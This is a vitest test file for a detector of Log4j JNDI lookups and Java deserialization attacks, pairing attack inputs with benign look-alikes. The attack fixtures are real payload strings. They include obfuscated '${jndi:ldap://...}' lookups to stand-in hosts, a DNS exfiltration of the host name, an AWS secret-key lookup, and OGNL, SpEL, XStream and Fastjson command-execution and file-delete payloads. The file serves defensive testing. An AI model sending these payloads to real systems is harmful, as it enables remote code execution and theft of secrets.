import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { alignedBase64 } from '../../src/detect/java/base64-fragments.ts';
import { detectJavaDeserialization, detectJndi } from '../../src/detect/java/index.ts';
import { resolveLookups } from '../../src/detect/java/lookup.ts';
import { checkAttacks, checkBenign, checkRobust } from './fixture-check.ts';

describe('log4j lookup resolver', () => {
  it('sees through nested obfuscations', () => {
    expect(resolveLookups('${${lower:J}${::-n}${env:NOPE:-d}${upper:i}:x}').text.toLowerCase()).toBe('${jndi:x}');
    expect(resolveLookups("${${date:'j'}ndi:x}").text).toBe('${jndi:x}');
  });
});

describe('JNDI detector', () => {
  checkAttacks(
    detectJndi,
    'jndi',
    [
      { value: '${jndi:ldap://evil.example/a}', rule: 'jndi.lookup' },
      { value: 'Mozilla ${jndi:rmi://evil.example:1099/x}' },
      { value: '${jndi:ldap://${hostName}.x.oast.me/a}' },
      { value: '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil/a}' },
      { value: '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil/a}' },
      { value: '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil/a}' },
      { value: '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil/a}' },
      { value: '${${upper:j}${upper:n}${upper:d}${upper:i}:dns://evil/a}' },
      { value: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil/a}" },
      { value: '${env:AWS_SECRET_ACCESS_KEY}', severity: 1, rule: 'jndi.log4j_lookup' },
      // the brace as an HTML reference, for an application that unescapes before it logs
      { value: '{"foo": "$&LBRACE;jndi:ldap://evil.example/a}"}', rule: 'jndi.lookup' },
      { value: '$&#123;jndi:rmi://evil.example/a}' },
    ],
    'header',
  );
  checkBenign(detectJndi, [
    { value: '${price} and ${name}' },
    { value: 'Mozilla/5.0 (X11; Linux x86_64)' },
    { value: 'const url = `${base}/api`;', location: 'body' },
    { value: 'Prices: $&lbrace; is how the template escapes a brace', location: 'body' },
  ]);
  checkRobust(detectJndi);
});

describe('Java deserialization detector', () => {
  checkAttacks(detectJavaDeserialization, 'java_deserialization', [
    { value: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC', rule: 'java.serialized_object' },
    { value: 'aced0005737200116a6176612e7574696c2e486173684d6170' },
    { value: 'ACED0005737200' },
    { value: '\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap' },
    { value: 'session=rO0ABXNyABFqYXZhLnV0aWwu' },
    { value: '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/a","autoCommit":true}', rule: 'java.gadget_class' },
    { value: '<map><entry><jdk.nashorn.x/><java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder></entry></map>' },
    { value: 'org.apache.commons.collections.functors.InvokerTransformer' },
    { value: '{"@class":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"}' },
  ]);
  checkBenign(detectJavaDeserialization, [
    { value: 'Learning java.lang.Runtime in class today', location: 'body' },
    { value: 'rO0 is not a word' },
    { value: 'com.example.app.Main' },
    { value: 'hello world' },
    { value: 'I use java.util.PriorityQueue for scheduling', location: 'body' },
  ]);
  checkRobust(detectJavaDeserialization);
});

describe('Java class names by context (class-names.ts, name-context.ts)', () => {
  checkAttacks(detectJavaDeserialization, 'java_deserialization', [
    // the whole value names a class that runs processes, reaches files or the JVM
    { value: 'java.lang.Runtime', rule: 'java.gadget_class' },
    { value: 'java.Runtime', rule: 'java.class_name' },
    { value: 'java.evil.processbuilder' },
    { value: 'java.io.FileOutputStream' },
    { value: 'java.io.File' },
    { value: 'java.lang.reflect' },
    { value: 'java.lang.System' },
    { value: 'java.lang.Class' },
    { value: 'javax.script.ScriptEngineManager' },
    { value: 'com.opensymphony.xwork2' },
    { value: 'com.sun.org.apache' },
    { value: 'org.omg.CORBA' },
    { value: ' java.beans.XMLDecoder ' },
    // gadget names next to Java names
    { value: 'ProcessBuilder.evil.clonetransformer', rule: 'java.gadget_class' },
    { value: 'runtime.invokertransformer' },
    { value: 'runtime.prototypeserializationfactory' },
    { value: 'org.apache.commons.collections.functors.ChainedTransformer' },
    // names are paths: a parameter, cookie or JSON key named like a class
    { value: 'java.lang.ProcessBuilder', location: 'body_name' },
    { value: 'java.io.BufferedReader', location: 'cookie_name' },
    { value: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern', location: 'body_name' },
    // code around the name: OGNL, SpEL, constructors, casts, XStream, typed JSON
    { value: '(#rt=@java.lang.Runtime@getRuntime(),#rt.exec("id"))' },
    { value: 'foo (#f=@java.io.File@separator)', rule: 'java.code_reference' },
    { value: "x=T(java.lang.Runtime).getRuntime().exec('id')" },
    { value: 'new java.io.File("/etc/passwd").delete()' },
    { value: 'a=new java.lang.ProcessBuilder({"id"}).start()' },
    { value: '<java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder>', location: 'raw_body' },
    { value: '{"@type":"java.io.FileOutputStream","file":"/tmp/x"}' },
    { value: 'handle=com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext("http://x/a.xml")' },
    { value: "Class.forName('java.lang.Runtime')" },
    // plain Java types where nobody types: names (binder paths, Jackson wrapper-object typing), cookies, headers
    { value: 'java.lang.String', location: 'body_name', rule: 'java.class_name' },
    { value: 'java.lang.Integer', location: 'query_name' },
    { value: 'org.apache.commons', location: 'cookie_name' },
    { value: 'java.lang.StringBuilder', location: 'cookie' },
    { value: 'java.lang.Object', location: 'header' },
  ]);
  checkBenign(detectJavaDeserialization, [
    { value: 'www.forclosure.com' },
    { value: 'forclosure listings in ohio' },
    { value: 'com.example.runtime.Config' },
    { value: 'node.js runtime' },
    { value: 'index.php' },
    { value: 'e.g. the java.io.File docs say so', location: 'body' },
    { value: 'We moved from java.lang.Runtime exec calls to a job queue last year.', location: 'body' },
    { value: 'Use java.nio.file.Files instead of java.io.File in new code', location: 'body' },
    { value: 'Runtime error in module.exports' },
    { value: 'user.address.city', location: 'body_name' },
    { value: 'v1.2.3' },
    { value: 'john.smith@example.org' },
    // XML names are the document's vocabulary (its values are read item by item as 'xml')
    { value: '<?xml version="1.0"?><doc java.io.File="x"><java.io.File>v</java.io.File></doc>', location: 'raw_body' },
    // plain Java types and library packages are only suspicious, even alone
    { value: 'java.lang.String', below: 2 },
    { value: 'org.apache.commons', below: 2 },
    { value: 'java.util.HashMap', below: 2 },
    // typed where people type (a developer site's search, an API's type-name field): suspicious only
    { value: 'java.lang.String', location: 'body', below: 2 },
    { value: '{"objectTypeName": "java.util.ArrayList"}', location: 'raw_body', below: 2 },
    // a log-level map is keyed by package; a key that only starts with a package is no class name
    { value: 'org.apache.commons', location: 'body_name', below: 2 },
    { value: 'org.apache.commons:commons-lang3', location: 'body_name', below: 2 },
    { value: 'java.lang.String is immutable', location: 'header', below: 2 },
    // XML element names are the document's vocabulary: an element holding only text builds nothing
    { value: '<?xml version="1.0"?><xml><java.lang.Runtime a="b">value</java.lang.Runtime></xml>', location: 'raw_body' },
    // code in a post is what the author shows
    {
      value: 'How do I run a command?\n\nI tried this:\n\n```java\nProcess p = java.lang.Runtime.getRuntime().exec("ls");\n```\n\nbut it hangs.',
      location: 'body',
      below: 2,
    },
  ]);
});

describe('Java serialized streams (serialized.ts)', () => {
  checkAttacks(detectJavaDeserialization, 'java_deserialization', [
    { value: 'rO0ABQ', rule: 'java.serialized_object' },
    { value: 'KztAAU' },
    { value: 'Cs7QAF' },
    { value: 'AAAKztAAUdAAEdGVzdA' },
    { value: '\u00c2\u00ac\u00c3\u00ad\u0000\u0005sr' },
    { value: 'ac ed 00 05 73 72' },
    // the raw bytes after a UTF-8 decoder replaced AC and ED
    { value: '\ufffd\ufffd\u0000\u0005sr' },
    // gzip of a serialized stream, base64 (the JSF ViewState shape)
    { value: gzipBase64(Buffer.from([0xac, 0xed, 0, 5, 0x73, 0x72, 0, 0x11])), rule: 'java.serialized_gzip' },
  ]);
  it('an unencrypted JSF ViewState is only suspicious (the application sent it)', () => {
    const found = detectJavaDeserialization(gzipBase64(Buffer.from([0xac, 0xed, 0, 5, 0x73])), 'body', 'javax.faces.ViewState');
    expect(found?.severity).toBe(1);
  });
  checkBenign(detectJavaDeserialization, [
    { value: gzipBase64(Buffer.from('{"hello":"world"}')) },
    { value: 'dXNlcj1yb290' },
    { value: 'xrO0ABQ' },
    { value: '<?xml version="1.0"?><a><rO0ABQ x="1">v</rO0ABQ></a>', location: 'raw_body' },
  ]);
});

describe('gadget names in base64 fragments (base64-fragments.ts)', () => {
  checkAttacks(
    detectJavaDeserialization,
    'java_deserialization',
    ['processbuilder', 'invokertransformer', 'forclosure', 'whileclosure', 'instantiatefactory', 'ChainedTransformer', 'TemplatesImpl'].flatMap((name) =>
      [0, 1, 2].map((offset) => ({ value: alignedBase64(name, offset), rule: 'java.base64_gadget' })),
    ),
  );
  checkAttacks(detectJavaDeserialization, 'java_deserialization', [
    { value: 'BydW50aW1l' },
    { value: 'cnVudGltZQ' },
    { value: 'HJ1bnRpbWU' },
    // base64 of readable text that mentions "runtime" (a config) is only suspicious
    { value: Buffer.from('runtime: python3.12\nmemory: 512\n').toString('base64'), severity: 1 },
  ]);
  it('keeps "runtime" inside readable base64 below the loose threshold', () => {
    expect(detectJavaDeserialization(Buffer.from('runtime: python3.12\nmemory: 512\n').toString('base64'), 'body')?.severity).toBe(1);
  });
  it('finds nothing in base64 that decodes to a JSON document (analytics batches; issue 25)', () => {
    expect(detectJavaDeserialization(Buffer.from('{"runtime":"python3.12","memory":512}').toString('base64'), 'body')).toBeNull();
    expect(detectJavaDeserialization(Buffer.from('[{"event":"Runtime error","user":"Zoë"}]').toString('base64'), 'body')).toBeNull();
  });
  checkBenign(detectJavaDeserialization, [
    { value: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U' },
    { value: 'Zm9vYmFyYmF6cXV4' },
    { value: 'd41d8cd98f00b204e9800998ecf8427e' },
    { value: 'getElementById' },
    { value: 'SGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0' },
    // base64 of prose that names a gadget word ("forclosure listings") is text, not a stream
    { value: Buffer.from('forclosure listings in ohio').toString('base64'), below: 2 },
  ]);
});

function gzipBase64(bytes: Buffer): string {
  return gzipSync(bytes).toString('base64');
}
